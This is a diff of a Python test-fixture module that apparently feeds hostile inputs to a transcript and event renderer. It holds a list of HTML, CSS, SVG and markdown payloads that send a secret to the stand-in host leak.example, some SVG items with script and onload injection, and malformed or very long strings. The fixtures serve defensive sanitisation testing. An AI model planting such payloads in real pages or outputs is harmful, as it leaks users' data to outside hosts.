@@ -30,6 +30,7 @@ def payloads() -> list[str]:
     return list(dict.fromkeys([*scripts, *links, *LEAKS]))
 
 
+SVG = "http://www.w3.org/2000/svg"
 LEAK = "https://leak.example/?secret"
 LEAKS = [
     f"![x]({LEAK})",
@@ -42,14 +43,14 @@ LEAKS = [
     f'<picture><source srcset="{LEAK}"><img src="{LEAK}"></picture>',
     f'<link rel="preload" as="image" href="{LEAK}"><link rel="dns-prefetch" href="//leak.example">',
     f'<link rel=stylesheet href="{LEAK}"><style>@import "{LEAK}"; * {{background: url({LEAK})}}</style>',
-    f'<table class="dataframe" style="background: url({LEAK})" background="{LEAK}"><tr><td style="content: url({LEAK})">1</table>',
+    f'<table class="dataframe" style="background: url({LEAK})" background="{LEAK}"><tr><td style="content: url({LEAK})">1',
     f'<td style="--x: url({LEAK}); background: var(--x); list-style: url({LEAK}); cursor: url({LEAK}), auto">x',
-    f'<p style="background-image: image-set(\'{LEAK}\' 1x); border-image: url({LEAK}) 1">x</p>',
-    f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{LEAK}"/><use href="{LEAK}#x"/></svg>',
-    f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{LEAK}"/></foreignObject></svg>',
-    f'<svg xmlns="http://www.w3.org/2000/svg"><style>* {{fill: url({LEAK}#f)}}</style><rect width="9" height="9"/></svg>',
-    f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><a href="{LEAK}"><rect width="9"/></a></svg>',
-    f'<?xml-stylesheet href="{LEAK}"?><svg xmlns="http://www.w3.org/2000/svg"/>',
+    f"<p style=\"background-image: image-set('{LEAK}' 1x); border-image: url({LEAK}) 1\">x</p>",
+    f'<svg xmlns="{SVG}"><image href="{LEAK}"/><use href="{LEAK}#x"/></svg>',
+    f'<svg xmlns="{SVG}"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{LEAK}"/></foreignObject></svg>',
+    f'<svg xmlns="{SVG}"><style>* {{fill: url({LEAK}#f)}}</style><rect width="9" height="9"/></svg>',
+    f'<svg xmlns="{SVG}" onload="alert(1)"><script>alert(1)</script><a href="{LEAK}"><rect width="9"/></a></svg>',
+    f'<?xml-stylesheet href="{LEAK}"?><svg xmlns="{SVG}"/>',
     f'<video poster="{LEAK}" src="{LEAK}"><track src="{LEAK}"></video><audio src="{LEAK}"></audio>',
     f'<iframe src="{LEAK}" srcdoc="<img src={LEAK}>"></iframe><object data="{LEAK}"></object><embed src="{LEAK}">',
     f'<meta http-equiv="refresh" content="0; url={LEAK}"><base href="{LEAK}">',
@@ -91,7 +92,15 @@ CONTROLS = [
     "\u05e9\u05dc\u05d5\u05dd 123 (abc) \u05e2\u05d5\u05dc\u05dd!",
     "\ud800 \udfff \ud83d",
 ]
-LONG = ["w" * 100_000, "\u0915\u094d" * 2000, "Z" + "\u0301\u0323\u0489" * 200, "\u200b" * 2000, "\n" * 2000, "(" * 2000, "🏳️‍🌈" * 500]
+LONG = [
+    "w" * 100_000,
+    "\u0915\u094d" * 2000,
+    "Z" + "\u0301\u0323\u0489" * 200,
+    "\u200b" * 2000,
+    "\n" * 2000,
+    "(" * 2000,
+    "\U0001f3f3\ufe0f\u200d\U0001f308" * 500,
+]
 
 
 def transcript_saying(text: str, *, live: bool = False) -> Transcript:
@@ -155,7 +164,9 @@ def events_saying(text: str, *, live: bool = False) -> Iterator[e.Event]:
         yield e.File(ts=4, id=f"file-{number}", media_type=text, url=url, name=text)
     yield e.File(ts=4, id="data", media_type="text/html", data=text, name=text)
     for media_type in ("image/png", "image/svg+xml"):
-        yield e.File(ts=4, id=media_type, media_type=media_type, data=base64.b64encode(text.encode(errors="replace")).decode(), name=text)
+        yield e.File(
+            ts=4, id=media_type, media_type=media_type, data=base64.b64encode(text.encode(errors="replace")).decode(), name=text
+        )
         yield e.File(ts=4, id=f"raw-{media_type}", media_type=media_type, data=text, name=text)
     yield e.Error(ts=4, message=text, code=text, error_type=text, traceback=text)
     yield e.Custom(ts=4, name=text, data={text or "x": text})
